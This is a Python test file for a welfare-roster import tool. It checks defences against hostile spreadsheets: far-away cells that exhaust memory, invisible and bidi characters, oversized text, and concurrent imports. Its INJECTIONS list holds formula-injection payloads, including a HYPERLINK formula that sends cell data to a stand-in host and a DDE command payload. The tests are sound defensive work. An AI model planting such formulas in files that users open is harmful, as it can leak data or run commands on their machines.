"""Hostile spreadsheets (issue 18): far-away cells, invisible characters, huge texts, formulas, concurrent imports."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from tests.conftest import ROOT, run_cli
from zwgk_desktop.config import Config
from zwgk_desktop.core.models import AuditEvent, Disclosure, DisclosureItem, OutboxEntry
from zwgk_desktop.core.schema import open_database
from zwgk_desktop.errors import InvalidInput
from zwgk_desktop.services.rosters import read_roster
from zwgk_desktop.services.rosters.importer import import_roster
from zwgk_desktop.services.rosters.sandbox import Limits, read_sandboxed

from . import fixtures as fx

INJECTIONS = ['=HYPERLINK("http://example.com/?"&A1,"点我")', "=cmd|' /C notepad'!A0", "+1+2", "-3+4", "@SUM(A1)"]


def notices(data_dir: Path) -> int:
    db = open_database(Config.load(data_dir))
    try:
        with db.session() as s:
            return s.execute(select(func.count(Disclosure.id))).scalar()
    finally:
        db.dispose()


def run_measured(*args: str, data_dir: Path) -> tuple[int, dict, float, float]:
    """(exit code, JSON, wall seconds, peak MB of the process and the children it reaped) of one `zwgk` run."""
    started = time.perf_counter()
    result = run_cli(*args, data_dir=data_dir, measure_peak=True)
    return result.returncode, result[1], time.perf_counter() - started, result.peak_mb


def test_far_away_cell_is_refused_as_too_wide_with_json(data_dir, tmp_path):
    """A tiny xlsx with cells at A1 and XFD200000 (no dimension tag): exit 1, JSON `too_wide`, nothing written."""
    path = fx.sparse_xlsx(tmp_path / "far.xlsx", "XFD200000")
    assert path.stat().st_size < 5000
    code, payload, wall, _peak = run_measured("import", str(path), "--category", "dibao", "--json", data_dir=data_dir)
    assert code == 1 and payload["error"]["code"] == "too_wide"
    assert "16,384" in payload["error"]["message"] and wall < 20
    assert notices(data_dir) == 0


def test_xfd3000_is_refused_at_once(tmp_path):
    """XFD3000 used to take 17 s and 2 GB before `no_header`; now `too_wide` in well under a second of reading."""
    path = fx.sparse_xlsx(tmp_path / "wide.xlsx", "XFD3000")
    started = time.perf_counter()
    with pytest.raises(InvalidInput) as err:
        read_roster(path, "dibao", fx.VILLAGES)
    assert err.value.code == "too_wide" and time.perf_counter() - started < 5


def test_cells_left_without_references_are_counted_too(tmp_path):
    """A writer that omits cell references cannot hide the width: the positional cells are counted."""
    path = fx.sparse_xlsx(tmp_path / "positional.xlsx", "XFD200000", references=False)
    with pytest.raises(InvalidInput) as err:
        read_roster(path, "dibao", fx.VILLAGES)
    assert err.value.code == "too_wide"


def test_xls_with_a_cell_at_the_last_row_and_column_is_refused_in_little_memory(data_dir, tmp_path):
    """A 5.6 KB .xls with a value at (65535, 255) used to take 1.2 GB: now `too_many_cells`, small and quick."""
    path = fx.far_cell_xls(tmp_path / "far.xls")
    assert path.stat().st_size < 8000
    code, payload, wall, peak = run_measured("import", str(path), "--category", "linshi", "--json", data_dir=data_dir)
    assert code == 1 and payload["error"]["code"] == "too_many_cells"
    assert "65,536" in payload["error"]["message"] and wall < 20 and peak < 400


def test_a_read_over_its_memory_limit_is_stopped_and_reported(tmp_path):
    """The child reading a file dies at its address-space limit; the caller gets a Chinese error, not a crash."""
    if sys.platform != "linux":
        pytest.skip("address-space limits are a Linux feature")
    path = fx.huge_csv(tmp_path / "big.csv", rows=100_000)
    with pytest.raises(InvalidInput) as err:
        read_sandboxed(path, limits=Limits(memory_bytes=8 << 20))
    assert err.value.code == "too_many_cells" and "上限" in err.value.message


def test_a_read_over_its_time_limit_is_stopped_and_reported(tmp_path):
    """A read that overruns the wall-clock limit is killed: `parse_timeout` with a Chinese message."""
    path = fx.huge_csv(tmp_path / "big.csv", rows=150_000)
    with pytest.raises(InvalidInput) as err:
        read_sandboxed(path, limits=Limits(wall_seconds=0.2))
    assert err.value.code == "parse_timeout" and "秒" in err.value.message


def rows_with(names: list[str], remarks: list[str] | None = None) -> list[list]:
    header = ["序号", "村", "户主姓名", "身份证号码", "保障人数", "月保障金额(元)", "备注"]
    rows = [header]
    for index, name in enumerate(names):
        remark = (remarks or [""] * len(names))[index]
        rows.append([index + 1, fx.VILLAGES[index % 3], name, fx.person_id(500 + index), 1, 300, remark])
    return rows


def test_invisible_and_bidi_characters_are_removed_with_a_warning_naming_the_row(tmp_path):
    """Zero-width, bidi override and isolate characters and a BOM are dropped; the warning names the row."""
    names = ["张\u200b三", "李\u202e四", "\u2066王五\u2069", "\ufeff赵六"]
    path = fx.xlsx_from_rows(tmp_path / "invisible.xlsx", rows_with(names))
    preview = read_roster(path, "dibao", fx.VILLAGES)
    assert [r.values["name"] for r in preview.rows] == ["张三", "李四", "王五", "赵六"]
    assert all(r.accepted for r in preview.rows)
    warnings = [p for p in preview.warnings() if p.code == "invisible_chars"]
    assert [p.row for p in warnings] == [2, 3, 4, 5] and "第2行" in warnings[0].message


def test_huge_names_and_remarks_are_refused_with_a_clear_message(tmp_path):
    """A 5,000-character name and a 20,000-character 备注 are `too_long` errors (limits 50 and 500)."""
    path = fx.xlsx_from_rows(tmp_path / "long.xlsx", rows_with(["张" * 5000, "李四"], ["", "备" * 20000]))
    preview = read_roster(path, "dibao", fx.VILLAGES)
    first, second = preview.rows
    assert not first.accepted and [(p.code, p.key) for p in first.errors] == [("too_long", "name")]
    assert "5,000" in first.errors[0].message and "50" in first.errors[0].message
    assert not second.accepted and [(p.code, p.key) for p in second.errors] == [("too_long", "remark")]
    assert "20,000" in second.errors[0].message


def test_a_leading_tab_does_not_turn_text_into_a_formula(database, tmp_path):
    """"\\t=1+2" keeps its tab through the import and comes back as a text cell in the 台账."""
    path = fx.xlsx_from_rows(tmp_path / "tab.xlsx", rows_with(["\t=1+2", "李四"]))
    preview = read_roster(path, "dibao", fx.VILLAGES)
    assert preview.rows[0].values["name"] == "\t=1+2"
    with database.session() as session:
        result = import_roster(session, preview)
    from zwgk_desktop.services.rosters.export import export_ledger

    out = tmp_path / "台账.xlsx"
    with database.session() as session:
        export_ledger(session, out, disclosure_id=result.disclosure_id, preset="internal")
    cell = openpyxl.load_workbook(out).active.cell(2, 4)
    assert cell.value == "\t=1+2" and cell.data_type == "s"


@pytest.mark.parametrize("mask", ["internal", "semi_public", "public"])
def test_formulas_in_names_come_back_as_text_in_the_ledger(data_dir, tmp_path, mask):
    """Names beginning with = + - @ are stored as typed and exported as text cells under every mask."""
    path = fx.xlsx_from_rows(tmp_path / "inject.xlsx", rows_with(INJECTIONS, INJECTIONS), text_only=True)
    code, imported, _ = run_cli("import", str(path), "--category", "dibao", "--json", data_dir=data_dir)
    assert code == 0 and imported["accepted"] == len(INJECTIONS)
    out = tmp_path / f"台账-{mask}.xlsx"
    code, _payload, _ = run_cli("export", "ledger", "--disclosure", imported["disclosure_id"], "--mask", mask,
                                "-o", str(out), "--json", data_dir=data_dir)
    assert code == 0
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    for column in (header.index("户主/申请人") + 1, header.index("备注") + 1):
        cells = [sheet.cell(row, column) for row in range(2, 2 + len(INJECTIONS))]
        assert all(c.data_type == "s" for c in cells)
        if mask == "internal":
            assert [c.value for c in cells] == INJECTIONS


def test_formulas_come_back_as_text_in_the_import_report(data_dir, tmp_path):
    """The problem report lists rejected rows by name: a formula name is a text cell there too."""
    rows = rows_with(INJECTIONS)
    for row in rows[1:]:
        row[3] = fx.bad_checksum(row[3])  # every row rejected, so every name is listed
    path = fx.xlsx_from_rows(tmp_path / "inject.xlsx", rows, text_only=True)
    report = tmp_path / "问题.xlsx"
    code, payload, _ = run_cli("import", str(path), "--category", "dibao", "--dry-run", "--report", str(report),
                               "--json", data_dir=data_dir)
    assert code == 0 and payload["rejected"] == len(INJECTIONS)
    sheet = openpyxl.load_workbook(report)["未导入的行"]
    names = [sheet.cell(row, 2) for row in range(2, 2 + len(INJECTIONS))]
    assert [c.value for c in names] == INJECTIONS and all(c.data_type == "s" for c in names)


def test_two_concurrent_imports_of_one_roster_end_with_one_draft(data_dir, tmp_path):
    """Two processes import the same 3,000-person roster at once: one draft, one `duplicate_existing` refusal."""
    rows = [fx.SIMPLE_HEADER] + [
        [i + 1, fx.VILLAGES[i % 3], f"张{i}", fx.person_id(i % 1000, born=fx.date(1950 + i // 1000, 1, 1)), 1, 300]
        for i in range(3000)
    ]
    path = fx.xlsx_from_rows(tmp_path / "same.xlsx", rows)
    command = [sys.executable, "-m", "zwgk_desktop", "--data-dir", str(data_dir), "import", str(path),
               "--category", "linshi", "--json"]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    procs = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT, env=env) for _ in range(2)]
    outputs = [p.communicate(timeout=180)[0] for p in procs]
    results = [(p.returncode, json.loads(out)) for p, out in zip(procs, outputs)]
    outcomes = sorted(code for code, _ in results)
    assert outcomes == [0, 1]
    refused = next(payload for code, payload in results if code == 1)
    assert refused["error"]["code"] == "nothing_imported" and refused["accepted"] == 0
    assert {e["code"] for e in refused["errors"]} == {"duplicate_existing"} and len(refused["errors"]) == 3000
    db = open_database(Config.load(data_dir))
    try:
        with db.session() as s:
            assert s.execute(select(func.count(Disclosure.id))).scalar() == 1
            assert s.execute(select(func.count(DisclosureItem.id))).scalar() == 3000
    finally:
        db.dispose()


def test_bulk_import_writes_its_outbox_and_audit_rows(database, tmp_path):
    """The bulk path bypasses the ORM hook, so it queues sync and audits by hand: check both."""
    path = fx.xlsx_from_rows(tmp_path / "r.xlsx", [fx.SIMPLE_HEADER, *fx.simple_rows(5)])
    with database.session(user="jingban") as session:
        result = import_roster(session, path, category="linshi", author="jingban")
    with database.session() as session:
        outbox = session.execute(select(OutboxEntry.entity, OutboxEntry.entity_id)).all()
        entities = [entity for entity, _ in outbox]
        assert entities.count("household") == result.households_created == 5
        assert ("disclosure_items", result.disclosure_id) in outbox and ("disclosure", result.disclosure_id) in outbox
        events = session.execute(select(AuditEvent).order_by(AuditEvent.seq)).scalars().all()
        summary = next(e for e in events if e.action == "roster_import")
        assert summary.entity_id == result.disclosure_id and summary.user == "jingban"
        assert summary.summary["accepted"] == 5 and summary.summary["households_created"] == 5
